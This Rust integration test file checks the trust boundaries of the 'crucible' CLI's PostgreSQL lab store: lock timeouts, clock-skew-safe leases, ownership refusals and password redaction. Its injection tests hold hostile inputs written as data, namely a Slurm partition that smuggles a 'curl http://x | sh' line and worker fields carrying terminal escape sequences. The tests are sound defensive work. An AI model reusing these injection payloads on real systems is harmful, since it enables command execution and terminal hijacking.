//! The lab store's trust boundaries through the `crucible` CLI, on a real PostgreSQL (the test
//! process's throwaway `crucible_store::LocalServer`): every wait bounded (a held sample lock
//! fails a run within seconds, naming who holds it), the server's clock and boot ids decide
//! leases and claims (a client whose clock is off takes nothing live), another member's run is
//! refused without `--force` and `crucible worker` takes only the caller's runs, Slurm
//! arguments cannot add lines to the batch script, store text cannot drive the terminal, and a
//! password never shows. docs/lab-scale.md, "Trust model".

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::str::FromStr;
use std::time::{Duration, Instant};

use crucible_store::{LeaseHolder, LocalServer, PgStore, WorkerPlace};
use serde_json::Value;

fn crucible(data: &Path, args: &[&str]) -> Command {
    let mut c = crate::support::crucible_command(data);
    c.args(args)
        .env("CRUCIBLE_LOG", "error")
        .env_remove("CRUCIBLE_CLOCK_OFFSET_S")
        .env_remove("PGPASSWORD")
        .stdin(Stdio::null());
    c
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn ok_json(out: Output, what: &str) -> Value {
    assert!(out.status.success(), "{what} failed: {}", text(&out));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{what}: {e}: {}", text(&out)))
}

/// A fresh lab store: its URL, a handle on it, and a data dir for the CLI.
async fn lab() -> (String, PgStore, tempfile::TempDir) {
    let server = LocalServer::shared().unwrap_or_else(|e| panic!("{e}"));
    let url = server.fresh_database().await.unwrap();
    let store = PgStore::connect(&url, None).await.unwrap();
    (url, store, tempfile::tempdir().unwrap())
}

/// One PILOT task with the offline reference agent (4 samples, no model, no chain).
const RUN: [&str; 8] = [
    "--bench",
    "pilot",
    "--model",
    "builtin:reference",
    "--limit",
    "1",
    "--seed",
    "7",
];

fn plan(data: &Path, url: &str, extra: &[&str]) -> Value {
    let mut args = vec!["run", "--store", url];
    args.extend(RUN);
    args.extend(extra);
    args.push("--json");
    ok_json(crucible(data, &args).output().unwrap(), "planning a run")
}

#[tokio::test(flavor = "multi_thread")]
async fn run_store_with_a_held_sample_lock_fails_naming_the_blocker_instead_of_hanging() {
    use sqlx::Connection;
    let (url, _store, data) = lab().await;
    // A member's session takes the sample-commit lock and holds it for two minutes.
    let opts = sqlx::postgres::PgConnectOptions::from_str(&url)
        .unwrap()
        .application_name("lock-hog");
    let mut hog = sqlx::PgConnection::connect_with(&opts).await.unwrap();
    let mut tx = hog.begin().await.unwrap();
    sqlx::query("SELECT pg_advisory_xact_lock(x'6372756369626c65'::bigint)")
        .execute(&mut *tx)
        .await
        .unwrap();
    let started = Instant::now();
    let mut args = vec!["run", "--store", url.as_str()];
    args.extend(RUN);
    let mut child = crucible(data.path(), &args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let out = loop {
        if child.try_wait().unwrap().is_some() {
            break child.wait_with_output().unwrap();
        }
        if started.elapsed() > Duration::from_secs(120) {
            child.kill().ok();
            panic!("`run --store` hung for the whole hold");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let took = started.elapsed();
    let said = text(&out);
    assert!(!out.status.success(), "{said}");
    assert!(took < Duration::from_secs(40), "took {took:?}: {said}");
    assert!(
        said.contains("holds the sample-commit lock") && said.contains("application `lock-hog`"),
        "{said}"
    );
    tx.rollback().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_whose_clock_runs_ahead_claims_nothing_another_worker_holds_live() {
    let (url, store, data) = lab().await;
    let planned = plan(data.path(), &url, &["--detach"]);
    let run = planned["run_id"].as_str().unwrap().to_string();
    // Worker A (this process) holds every sample for 60 s of the server's clock.
    let a = store
        .join_run(&run, &WorkerPlace::default(), "2026-01-01T00:00:00Z")
        .await
        .unwrap();
    let mut held = 0;
    while store.claim(&run, a, 60).await.unwrap().is_some() {
        held += 1;
    }
    assert!(held > 0);
    // Worker B's machine clock runs 120 s ahead: by its own clock A's claims expired.
    let mut b = crucible(
        data.path(),
        &[
            "worker",
            "--store",
            &url,
            "--run",
            &run,
            "--claim-secs",
            "2",
        ],
    )
    .env("CRUCIBLE_CLOCK_OFFSET_S", "120")
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .unwrap();
    let started = Instant::now();
    let b_row = loop {
        let ws = store.workers(&run).await.unwrap();
        if let Some(w) = ws.iter().find(|w| w.pid == i64::from(b.id())) {
            if started.elapsed() > Duration::from_secs(5) {
                break w.clone();
            }
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "worker B never joined"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    b.kill().ok();
    b.wait().ok();
    assert_eq!(b_row.claimed, 0, "B took live claims: {b_row:?}");
    let q = store.queue_state(&run).await.unwrap();
    assert_eq!((q.claimed, q.done), (held, 0), "{q:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_process_whose_clock_runs_ahead_cannot_take_a_live_run_lease() {
    let (url, store, data) = lab().await;
    let done = plan(data.path(), &url, &[]);
    let run = done["run_id"].as_str().unwrap().to_string();
    // A holder on a machine with this host name but another boot (a container, a node named
    // alike), with a pid that means nothing here: live for 60 s of the server's clock.
    let holder = LeaseHolder {
        name: "crucible run (pid 4194305 on a twin host)".into(),
        pid: 4_194_305,
        host: crucible_store::machine_of(&crucible_store::host_name(), "another-boot"),
    };
    store
        .acquire_lease(&run, &holder, "tok-live", 60)
        .await
        .unwrap();
    for offset in ["0", "120"] {
        let out = crucible(
            data.path(),
            &["run", "--resume", &run, "--store", &url, "--json"],
        )
        .env("CRUCIBLE_CLOCK_OFFSET_S", offset)
        .output()
        .unwrap();
        let said = text(&out);
        assert!(!out.status.success(), "offset {offset}: {said}");
        assert!(
            said.contains("is being run by crucible run (pid 4194305 on a twin host)"),
            "offset {offset}: {said}"
        );
    }
    assert_eq!(
        store.lease_holder(&run).await.unwrap().map(|h| h.name),
        Some(holder.name)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn another_members_run_is_refused_without_force_and_workers_take_only_their_own() {
    let (url, store, data) = lab().await;
    // The run is planned by the server's `postgres` role; bob is another member.
    let planned = plan(data.path(), &url, &["--detach"]);
    let run = planned["run_id"].as_str().unwrap().to_string();
    let bob = format!("bob_{}", std::process::id());
    sqlx::query(&format!(
        "DO $$ BEGIN CREATE ROLE {bob} LOGIN SUPERUSER PASSWORD 'pw-bob'; \
         EXCEPTION WHEN duplicate_object THEN NULL; END $$"
    ))
    .execute(&mut *store_conn(&url).await)
    .await
    .unwrap();
    let (shown, _) = crucible_store::split_url_password(&url);
    let bob_url = shown.replacen(
        "postgres://postgres@",
        &format!("postgres://{bob}:pw-bob@"),
        1,
    );
    // Bob's worker without --run leaves postgres's run alone.
    let out = crucible(data.path(), &["worker", "--store", &bob_url])
        .output()
        .unwrap();
    let said = text(&out);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("no running run of yours"), "{said}");
    assert_eq!(store.queue_state(&run).await.unwrap().done, 0);
    // Cancelling or deleting it is refused, naming the owner …
    for cmd in ["cancel", "delete"] {
        let out = crucible(data.path(), &["runs", cmd, &run, "--store", &bob_url])
            .output()
            .unwrap();
        let said = text(&out);
        assert!(!out.status.success(), "{cmd}: {said}");
        assert!(
            said.contains(&format!("run {run} belongs to postgres")) && said.contains("--force"),
            "{cmd}: {said}"
        );
    }
    assert_eq!(store.run(&run).await.unwrap().status, "running");
    // … unless forced (this store has no per-person roles; docs/lab-roles.sql adds them).
    let out = crucible(
        data.path(),
        &["runs", "cancel", &run, "--store", &bob_url, "--force"],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(store.run(&run).await.unwrap().status, "cancelled");
}

/// A role `name` (a superuser, so only Crucible's own check stands in its way) and its URL.
async fn member(url: &str, name: &str) -> String {
    sqlx::query(&format!(
        "DO $$ BEGIN CREATE ROLE {name} LOGIN SUPERUSER PASSWORD 'pw-{name}'; \
         EXCEPTION WHEN duplicate_object THEN NULL; END $$"
    ))
    .execute(&mut *store_conn(url).await)
    .await
    .unwrap();
    let (shown, _) = crucible_store::split_url_password(url);
    shown.replacen(
        "postgres://postgres@",
        &format!("postgres://{name}:pw-{name}@"),
        1,
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn renaming_or_overriding_another_members_run_is_refused_without_force() {
    let (url, store, data) = lab().await;
    let done = plan(data.path(), &url, &[]);
    let run = done["run_id"].as_str().unwrap().to_string();
    let sample = store.samples(&run).await.unwrap()[0].0.to_string();
    let carol = member(&url, &format!("carol_{}", std::process::id())).await;
    let rename = [
        "runs", "rename", &run, "--name", "carol's", "--store", &carol,
    ];
    let annotate = [
        "annotate",
        &sample,
        "--verdict",
        "fail",
        "--note",
        "wrong",
        "--reviewer",
        "carol",
        "--store",
        &carol,
    ];
    for (what, args) in [("rename", &rename[..]), ("annotate", &annotate[..])] {
        let out = crucible(data.path(), args).output().unwrap();
        let said = text(&out);
        assert!(!out.status.success(), "{what}: {said}");
        assert!(
            said.contains(&format!("run {run} belongs to postgres")) && said.contains("--force"),
            "{what}: {said}"
        );
    }
    assert_eq!(store.run(&run).await.unwrap().name, None);
    assert!(store.overrides(Some(&run)).await.unwrap().is_empty());
    for (what, args) in [("rename", &rename[..]), ("annotate", &annotate[..])] {
        let mut args = args.to_vec();
        args.push("--force");
        let out = crucible(data.path(), &args).output().unwrap();
        assert!(out.status.success(), "{what} --force: {}", text(&out));
    }
    assert_eq!(
        store.run(&run).await.unwrap().name.as_deref(),
        Some("carol's")
    );
    assert_eq!(store.overrides(Some(&run)).await.unwrap().len(), 1);
    // The owner renames their own run without --force.
    let out = crucible(
        data.path(),
        &["runs", "rename", &run, "--note", "fine", "--store", &url],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let row = store.run(&run).await.unwrap();
    assert_eq!(
        (row.name.as_deref(), row.note.as_deref()),
        (Some("carol's"), Some("fine"))
    );
}

async fn store_conn(url: &str) -> Box<sqlx::PgConnection> {
    use sqlx::Connection;
    Box::new(sqlx::PgConnection::connect(url).await.unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_newline_in_a_slurm_partition_is_refused_before_anything_is_planned() {
    let (url, store, data) = lab().await;
    let mut args = vec!["run", "--store", url.as_str()];
    args.extend(RUN);
    args.extend([
        "--print-sbatch",
        "--partition",
        "debug\ncurl http://x | sh #",
    ]);
    let out = crucible(data.path(), &args).output().unwrap();
    let said = text(&out);
    assert!(!out.status.success(), "{said}");
    assert!(said.contains("--partition"), "{said}");
    assert!(!said.contains("\ncurl"), "{said}");
    assert!(
        store.run_ids().await.unwrap().is_empty(),
        "a run was planned"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn workers_list_prints_no_escape_sequence_a_worker_stored() {
    let (url, store, data) = lab().await;
    let planned = plan(data.path(), &url, &["--detach"]);
    let run = planned["run_id"].as_str().unwrap().to_string();
    let place = WorkerPlace {
        host: "node-1\u{1b}]52;c;Y3VybCB4fHNo\u{7}\u{1b}[2J".into(),
        pid: 1,
        slurm_job: Some("9\u{1b}[8m".into()),
        lease_s: 30,
    };
    let w = store
        .join_run(&run, &place, "2026-01-01T00:00:00Z")
        .await
        .unwrap();
    store
        .leave_run(w, "failed", Some("boom\u{1b}]0;owned\u{7}\r\nfake line"))
        .await
        .unwrap();
    let out = crucible(
        data.path(),
        &["workers", "list", "--store", &url, "--run", &run],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("node-1"), "{shown}");
    assert!(
        !shown.chars().any(|c| c.is_control() && c != '\n'),
        "{shown:?}"
    );
    assert!(!shown.contains("\nfake line"), "{shown:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_with_a_question_mark_or_slash_never_shows_in_an_error() {
    let data = tempfile::tempdir().unwrap();
    for pw in ["s3cr?et", "s3/cret"] {
        let url = format!("postgres://ada:{pw}@127.0.0.1:1/db");
        let out = crucible(data.path(), &["runs", "list", "--store", &url])
            .output()
            .unwrap();
        let said = text(&out);
        assert!(!out.status.success(), "{said}");
        assert!(said.contains("postgres://ada@127.0.0.1:1/db"), "{said}");
        for part in ["s3cr", "cret"] {
            assert!(!said.contains(part), "{pw}: {said}");
        }
    }
}
